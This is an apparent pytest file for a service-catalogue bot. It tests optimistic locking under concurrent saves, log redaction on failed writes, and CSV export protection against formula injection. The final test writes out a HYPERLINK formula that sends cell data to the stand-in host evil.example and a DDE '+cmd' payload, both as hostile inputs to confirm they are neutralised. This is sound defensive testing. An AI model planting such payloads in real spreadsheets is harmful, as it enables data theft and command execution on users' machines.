"""Reliability: what the catalogue guarantees under concurrent writes, failures and hostile files.

Tests taking `engine` run on SQLite and, with RELAIS_TEST_DATABASE_URL set, on PostgreSQL.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import threading
from datetime import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import text
from sqlalchemy.exc import DBAPIError

from bot.models import BotUserData
from catalogue.db import session_scope
from catalogue.importer import export_bytes, import_bytes, parse
from catalogue.models import Location, OpeningHours, Service, ServiceCategory
from catalogue.services import (
    ConcurrentEditError,
    content,
    get_service,
    history,
    save_service,
    service_snapshot,
)
from catalogue.sheet import FORMULA_STARTS, formula_safe, unquote
from tests.bot.admin_kit import SERVICE_ID, make_kit

ROUNDS = 5


def _create(engine, service_id: str) -> None:
    service = Service(id=service_id, name="Bains douches")
    service.categories = [ServiceCategory(key="shower")]
    service.locations = [Location(id=f"l-{service_id}", city="Lille")]
    service.hours = [OpeningHours(id=f"h-{service_id}", byday="MO", opens_at=time(9),
                                  closes_at=time(12))]  # fmt: skip
    with session_scope(engine) as session:
        save_service(session, service, actor="seed", action="create")


def _race(engine, service_id: str) -> dict[str, str]:
    """Two editors read the same stamp, then both save at once; what each one got."""
    with session_scope(engine) as session:
        seen = get_service(session, service_id).updated_at
    ready = threading.Barrier(2)
    outcome: dict[str, str] = {}

    def edit(editor: str) -> None:
        ready.wait()
        try:
            with session_scope(engine) as session:
                service = get_service(session, service_id)
                service.name = f"renamed by {editor}"
                save_service(session, service, actor=editor, expected_updated_at=seen)
            outcome[editor] = "saved"
        except ConcurrentEditError:
            outcome[editor] = "refused"

    threads = [threading.Thread(target=edit, args=(name,)) for name in ("alice", "bob")]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    return outcome


def test_two_concurrent_saves_with_the_same_stamp_exactly_one_wins(engine):
    for round_ in range(ROUNDS):
        service_id = f"s-{round_}"
        _create(engine, service_id)
        outcome = _race(engine, service_id)
        assert sorted(outcome.values()) == ["refused", "saved"], outcome
        (winner,) = [editor for editor, result in outcome.items() if result == "saved"]
        with session_scope(engine) as session:
            assert get_service(session, service_id).name == f"renamed by {winner}"
            edits = [e for e in history(session, service_id) if e.action == "update"]
        assert [e.actor for e in edits] == [winner]


def test_a_failed_write_logs_no_user_text(engine, caplog):
    """The SQL parameters (user ids, what people typed) never reach an error or a log."""
    with engine.begin() as conn:
        conn.execute(text(f"DROP TABLE {BotUserData.__tablename__}"))
    caplog.set_level(logging.DEBUG)
    with pytest.raises(DBAPIError) as failure, session_scope(engine) as session:
        session.add(BotUserData(user_id=987654321, data={"search": {"text": "douche Roubaix"}}))
    logging.getLogger("relais.test").error("write failed", exc_info=failure.value)
    logged = caplog.text + str(failure.value)
    assert "write failed" in logged and "hidden due to hide_parameters" in logged
    assert "douche Roubaix" not in logged and "987654321" not in logged


# --- export cells are never formulas ------------------------------------------------------------

HOSTILE = st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", " ", "|",
                                            ";", ",", '"', "1"]), max_size=8)


@given(HOSTILE)
def test_formula_quote_is_undone_exactly(cell):
    assert unquote(formula_safe(cell)) == cell
    assert not formula_safe(cell).startswith(FORMULA_STARTS)


def _cells(sheet: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(sheet.decode("utf-8-sig"))) for cell in row]


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=HOSTILE.map(lambda t: "=" + t + "x"), note=HOSTILE, fees=HOSTILE)
def test_exported_cells_are_never_formulas_and_read_back_the_same(sqlite_engine, name, note,
                                                                  fees):
    item = {"id": "svc", "name": name.strip() or "x", "fees_description": note.strip() or None,
            "application_process": fees.strip() or None,
            "service_at_locations": [{"location": {"id": "-loc", "name": "@place"}}]}
    assert import_bytes(sqlite_engine, json.dumps([item]).encode(), "a.json", actor="t").ok()
    sheet = export_bytes(sqlite_engine, "csv")
    assert not [c for c in _cells(sheet) if c.startswith(FORMULA_STARTS)]
    items, report = parse(sheet, "export.csv")
    assert report.ok(), report.problem_lines()
    with session_scope(sqlite_engine) as session:
        stored = service_snapshot(get_service(session, "svc"))
    assert content(items[0][1]) == content(stored)


async def test_admin_export_is_spreadsheet_safe(tmp_path):
    kit = await make_kit(f"sqlite:///{tmp_path / 'relais.db'}")
    try:
        with session_scope(kit.engine) as session:
            service = get_service(session, SERVICE_ID)
            service.name = '=HYPERLINK("http://evil.example/?"&A1,"Douches")'
            service.description = "+cmd|' /C calc'!A0"
            save_service(session, service, actor="t", expected_updated_at=service.updated_at)
        await kit.admin.send("/export")
        calls = await kit.admin.press("adm:exp:csv")
        (document,) = [c for c in calls if c.method == "sendDocument"]
        cells = _cells(document.files["document"])
        assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Douches\")" in cells
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    finally:
        await kit.app.shutdown()
